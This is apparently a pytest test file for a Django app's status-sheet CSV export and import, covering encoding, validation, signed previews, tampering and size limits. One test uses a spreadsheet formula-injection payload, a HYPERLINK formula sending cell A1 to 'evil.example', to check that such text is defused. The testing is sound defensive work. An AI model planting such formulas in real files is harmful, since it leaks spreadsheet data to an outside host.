"""The status sheet round trip: download, fill in, import (issue 19)."""

import csv

import pytest
from django.core.cache import cache
from django.core.management import CommandError, call_command
from django.test import Client

from indsatser.models import Indsats
from opfoelgning.forms import sign
from opfoelgning.models import Statusopdatering
from opfoelgning.skema import read
from tests.admin_client import user_in_role

from .helpers import opdatering

HEADER = "indsats;kommune;dato;status;tekst"
IMPORT = "/admin/opfoelgning/statusopdatering/indlaes/"


def download(client, slug="kolding"):
    cache.clear()
    response = client.get(f"/2020/opfoelgning/skema.csv?kommune={slug}")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="status-2020-{slug}.csv"'
    return response.content


def import_file(tmp_path, data):
    path = tmp_path / "skema.csv"
    path.write_bytes(data)
    call_command("importer_status", "2020", str(path))


@pytest.fixture
def bo_trygt(plan2020):
    return Indsats.objects.get(plan=plan2020, slug="bo-trygt")


def test_the_sheet_is_semicolons_utf8_with_bom_and_one_row_per_initiative(
    plan2020, client, kommune, bo_trygt
):
    opdatering(bo_trygt, "i_gang", "2020-03-01", tekst="Alle; i gang")
    opdatering(bo_trygt, "gennemfoert", "2020-06-01", kommune=kommune("kolding"), tekst="Færdig")
    opdatering(bo_trygt, "opgivet", "2020-07-01", kommune=kommune("kolding"), offentlig=False)
    data = download(client)
    assert data.startswith(b"\xef\xbb\xbf" + HEADER.encode() + b"\r\n")
    text = data.decode("utf-8-sig")
    assert "sep=" not in text
    lines = text.splitlines()
    concerning = Indsats.objects.filter(plan=plan2020).for_kommune(kommune("kolding"))
    assert [line.split(";")[0] for line in lines[1:]] == [i.slug for i in concerning]
    assert "bo-trygt;kolding;2020-06-01;Gennemført;Færdig" in lines  # newest public there
    vejle = download(client, "vejle").decode("utf-8-sig").splitlines()
    assert 'bo-trygt;;2020-03-01;I gang;"Alle; i gang"' in vejle  # the one for all
    assert "responstider;vejle;;;" in vejle  # not reported on yet


def test_the_sheet_needs_a_municipality_of_the_plan(plan2020, client):
    assert client.get("/2020/opfoelgning/skema.csv").status_code == 400
    assert client.get("/2020/opfoelgning/skema.csv?kommune=oslo").status_code == 404
    assert client.get("/2020/opfoelgning/skema.csv?kommune=koebenhavn").status_code == 404


def test_download_import_download_is_byte_identical(plan2020, client, kommune, bo_trygt, tmp_path):
    opdatering(bo_trygt, "i_gang", "2020-03-01", tekst="Linje et\r\nlinje to; med semikolon")
    opdatering(bo_trygt, "udskudt", "2020-05-01", kommune=kommune("kolding"), tekst='"Citat"')
    first = download(client)
    import_file(tmp_path, first)
    assert Statusopdatering.objects.count() == 2  # nothing added
    assert download(client) == first
    # The municipality fills in a row (Excel's way: DD-MM-YYYY, any case).
    filled = first.decode("utf-8-sig").replace(
        "responstider;kolding;;;", "responstider;kolding;15-09-2020;i GANG;Vagtplan lagt"
    )
    assert filled != first.decode("utf-8-sig")
    import_file(tmp_path, filled.encode("utf-8-sig"))
    added = Statusopdatering.objects.get(indsats__slug="responstider")
    assert (added.status, str(added.dato), added.kommune, added.offentlig) == (
        "i_gang",
        "2020-09-15",
        kommune("kolding"),
        True,
    )
    second = download(client)
    assert "responstider;kolding;2020-09-15;I gang;Vagtplan lagt" in second.decode("utf-8-sig")
    import_file(tmp_path, second)
    import_file(tmp_path, filled.encode("utf-8-sig"))  # the same file twice: nothing new
    assert Statusopdatering.objects.count() == 3
    assert download(client) == second


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"klik")'


@pytest.mark.parametrize("tekst", [FORMULA, "+1", "-2 punkter", "@SUM(A1)", "\tx", "'=citeret"])
def test_a_formula_text_is_defused_and_comes_back_unchanged(
    plan2020, client, kommune, bo_trygt, tmp_path, tekst
):
    opdatering(bo_trygt, "opgivet", "2020-05-02", kommune=kommune("kolding"), tekst=tekst)
    first = download(client)
    rows = list(csv.reader(first.decode("utf-8-sig").splitlines(), delimiter=";"))
    cell = next(row[4] for row in rows if row[0] == "bo-trygt")
    assert cell == "'" + tekst  # Excel shows the text; it does not run it
    import_file(tmp_path, first)
    assert Statusopdatering.objects.get().tekst == tekst  # nothing added, text kept
    assert download(client) == first
    # Imported from the sheet, the text is the one written, not the defused one.
    Statusopdatering.objects.all().delete()
    import_file(tmp_path, first)
    assert Statusopdatering.objects.get().tekst == tekst
    assert download(client) == first


BAD_ROWS = {
    "ukendt-indsats;kolding;2020-03-01;I gang;x": "har ingen indsats »ukendt-indsats«",
    "graensekontrol-i-billund-lufthavn;kolding;2020-03-01;I gang;x": (
        "vedrører ikke Kolding Kommune"
    ),
    "bo-trygt;oslo;2020-03-01;I gang;x": "»oslo« er ikke en af kommunerne",
    "bo-trygt;kolding;2020-03-01;Færdig;x": "»Færdig« er ikke en status",
    "bo-trygt;kolding;2020-13-01;I gang;x": "»2020-13-01« er ikke en dato",
    "bo-trygt;kolding;31/03/2020;I gang;x": "»31/03/2020« er ikke en dato",
    "bo-trygt;kolding;;I gang;x": "datoen mangler",
    "bo-trygt;kolding;01-01-2099;I gang;x": "datoen 01.01.2099 ligger mere end et år uden for",
    "bo-trygt;kolding;31.12.2018;I gang;x": "mellem 01.01.2019 og 31.12.2021",
    "bo-trygt;kolding;2020-03-01": "rækken har 3 kolonner",
    ";kolding;2020-03-01;I gang;x": "rækken mangler en indsats",
}


@pytest.mark.parametrize("row", BAD_ROWS)
def test_a_bad_row_is_named_in_danish_and_nothing_is_written(plan2020, tmp_path, row, capsys):
    good = "bo-trygt;kolding;2020-03-01;I gang;God række"
    data = f"{HEADER}\r\n{good}\r\n{row}\r\n".encode("utf-8-sig")
    with pytest.raises(CommandError, match="Intet er indlæst: 1 fejl"):
        import_file(tmp_path, data)
    assert "Linje 3: " in capsys.readouterr().err
    assert not Statusopdatering.objects.exists()


def test_every_bad_row_gets_its_message(plan2020, tmp_path, capsys):
    data = (HEADER + "\r\n" + "\r\n".join(BAD_ROWS) + "\r\n").encode("utf-8-sig")
    with pytest.raises(CommandError, match=f"{len(BAD_ROWS)} fejl"):
        import_file(tmp_path, data)
    err = capsys.readouterr().err
    for number, expected in enumerate(BAD_ROWS.values(), start=2):
        assert f"Linje {number}: " in err and expected in err, expected


def test_a_file_without_the_header_is_refused(plan2020, tmp_path):
    with pytest.raises(CommandError):
        import_file(tmp_path, b"bo-trygt;kolding;2020-03-01;I gang;x\r\n")
    with pytest.raises(CommandError, match="ingen samarbejdsplan for 1999"):
        call_command("importer_status", "1999", str(tmp_path / "skema.csv"))
    assert not Statusopdatering.objects.exists()


def test_a_sheet_date_may_be_written_as_in_the_admin(plan2020, tmp_path):
    rows = "bo-trygt;kolding;05.03.2020;I gang;a\r\nbo-trygt;;01.01.2019;I gang;b\r\n"
    import_file(tmp_path, f"{HEADER}\r\n{rows}".encode())
    assert sorted(str(d) for d in Statusopdatering.objects.values_list("dato", flat=True)) == [
        "2019-01-01",
        "2020-03-05",
    ]


def test_a_municipality_may_be_named_in_any_case(plan2020, kommune, tmp_path):
    rows = (
        "bo-trygt;Kolding;01-05-2020;UDSKUDT;a\r\n"
        "bo-trygt;KOLDING;02-05-2020;udskudt;b\r\n"
        "bo-trygt;kolding kommune;03-05-2020;Udskudt;c\r\n"
        "bo-trygt;FREDERICIA Kommune;04-05-2020;Udskudt;d\r\n"
    )
    import_file(tmp_path, f"{HEADER}\r\n{rows}".encode())
    chosen = Statusopdatering.objects.order_by("dato").values_list("kommune__slug", flat=True)
    assert list(chosen) == ["kolding", "kolding", "kolding", "fredericia"]


def test_excels_windows_1252_file_is_read(plan2020, tmp_path):
    data = f"{HEADER}\r\nbo-trygt;kolding;01-03-2020;Gennemført;Færdig i år\r\n".encode("cp1252")
    import_file(tmp_path, data)
    assert Statusopdatering.objects.get().get_status_display() == "Gennemført"


def test_the_admin_previews_then_imports_for_the_secretariat_only(plan2020, bo_trygt):
    data = f"{HEADER}\r\nbo-trygt;kolding;2020-03-01;Udskudt;Efter sommer\r\n".encode("utf-8-sig")

    def upload(client, **extra):
        from django.core.files.uploadedfile import SimpleUploadedFile

        return client.post(
            IMPORT, {"plan": plan2020.pk, "fil": SimpleUploadedFile("s.csv", data), **extra}
        )

    for role in ("Kredsråd", "ingen gruppe"):
        client = Client()
        client.force_login(user_in_role(role, name=f"x-{role}"))
        assert upload(client, bekraeft="1").status_code == 403
    sekretariat = Client()
    sekretariat.force_login(user_in_role("Sekretariat", name="sek"))
    preview = upload(sekretariat)
    assert preview.status_code == 200 and "Efter sommer" in preview.content.decode()
    assert not Statusopdatering.objects.exists()  # a preview writes nothing
    text = preview.context["indhold"]
    response = sekretariat.post(IMPORT, {"plan": plan2020.pk, "indhold": text, "bekraeft": "1"})
    assert response.status_code == 302
    update = Statusopdatering.objects.get()
    assert update.forfatter.username == "sek" and update.history.count() == 1
    # A file with a bad row cannot be confirmed.
    bad = sign(plan2020, data.decode("utf-8-sig").replace("Udskudt", "Færdig"))
    response = sekretariat.post(IMPORT, {"plan": plan2020.pk, "indhold": bad, "bekraeft": "1"})
    assert "»Færdig« er ikke en status" in response.content.decode()
    assert Statusopdatering.objects.count() == 1


def test_the_confirmation_imports_only_what_was_previewed(plan2020, draft2021):
    data = f"{HEADER}\r\nbo-trygt;kolding;2020-03-01;Udskudt;Vist\r\n".encode("utf-8-sig")
    client = sekretariat_client()
    signed = upload_as(client, plan2020, "s.csv", data).context["indhold"]
    unsigned = data.decode("utf-8-sig").replace("Vist", "TAMPER-UNPREVIEWED")
    tampered = signed[:-3] + ("xyz" if not signed.endswith("xyz") else "abc")
    for plan, indhold in ((plan2020, unsigned), (plan2020, tampered), (draft2021, signed)):
        response = client.post(IMPORT, {"plan": plan.pk, "indhold": indhold, "bekraeft": "1"})
        assert response.status_code == 200
        assert "Forhåndsvisningen kunne ikke genkendes" in response.content.decode()
    assert not Statusopdatering.objects.exists()
    response = client.post(IMPORT, {"plan": plan2020.pk, "indhold": signed, "bekraeft": "1"})
    assert response.status_code == 302
    assert Statusopdatering.objects.get().tekst == "Vist"


def sekretariat_client():
    client = Client()
    client.force_login(user_in_role("Sekretariat", name="sek"))
    return client


def upload_as(client, plan, name, data, **extra):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return client.post(IMPORT, {"plan": plan.pk, "fil": SimpleUploadedFile(name, data), **extra})


def test_the_import_offers_the_plan_in_force_not_a_draft(plan2020, draft2021):
    form = sekretariat_client().get(IMPORT).context["form"]
    assert form["plan"].value() == plan2020.pk


def test_a_sheet_named_for_another_year_is_refused(plan2020, draft2021, tmp_path):
    data = f"{HEADER}\r\nbo-trygt;kolding;2020-03-01;Udskudt;x\r\n".encode("utf-8-sig")
    client = sekretariat_client()
    for name in ("status-2020-kolding.csv", "status-2020-kolding (1).csv"):
        response = upload_as(client, draft2021, name, data, bekraeft="1")
        assert response.status_code == 200
        assert "er skemaet for 2020, men du har valgt Samarbejdsplan 2021" in (
            response.content.decode()
        )
    path = tmp_path / "status-2021-kolding.csv"
    path.write_bytes(data)
    with pytest.raises(CommandError, match="er skemaet for 2021"):
        call_command("importer_status", "2020", str(path))
    assert not Statusopdatering.objects.exists()
    assert upload_as(client, plan2020, "status-2020-kolding.csv", data).status_code == 200


def test_a_sheet_too_large_is_refused_before_the_preview(plan2020, tmp_path):
    row = "bo-trygt;kolding;2020-03-01;I gang;" + "x" * 60 + "\r\n"
    big = (HEADER + "\r\n" + row * 20_000).encode("utf-8-sig")  # 1.9 MB
    client = sekretariat_client()
    response = upload_as(client, plan2020, "status-2020-kolding.csv", big)
    assert "et statusskema må højst fylde 1 MB" in response.content.decode()
    assert "resultat" not in response.context  # no preview of it
    with pytest.raises(CommandError, match="Filen fylder 1,9 MB"):
        import_file(tmp_path, big)
    many = (HEADER + "\r\n" + "bo-trygt;kolding;2020-03-01;I gang;x\r\n" * 5_001).encode()
    with pytest.raises(CommandError, match="1 fejl"):
        import_file(tmp_path, many)
    response = upload_as(client, plan2020, "s.csv", many)
    assert "Filen har 5.001 rækker; et statusskema må højst have 5.000." in (
        response.content.decode()
    )
    assert not Statusopdatering.objects.exists()


def test_a_row_repeated_in_the_file_is_not_called_already_imported(plan2020, kommune, bo_trygt):
    opdatering(bo_trygt, "i_gang", "2020-03-01", kommune=kommune("kolding"))
    rows = (
        "bo-trygt;kolding;2020-03-01;I gang;\r\n" + "bo-trygt;kolding;2020-04-01;Udskudt;y\r\n" * 3
    )
    data = (HEADER + "\r\n" + rows).encode("utf-8-sig")
    preview = upload_as(sekretariat_client(), plan2020, "s.csv", data).content.decode()
    assert "1 række er allerede indlæst" in preview
    assert "2 rækker står mere end én gang i filen" in preview
    result = read(plan2020, data)
    assert (len(result.nye), result.uaendrede, result.gentagne) == (1, 1, 2)


def test_an_empty_upload_and_a_folder_are_named_for_what_they_are(plan2020, tmp_path):
    response = upload_as(sekretariat_client(), plan2020, "s.csv", b"")
    errors = response.context["form"].errors
    assert errors == {"fil": ["Filen er tom. Vælg det udfyldte statusskema."]}
    with pytest.raises(CommandError, match="er en mappe, ikke en fil"):
        call_command("importer_status", "2020", str(tmp_path))
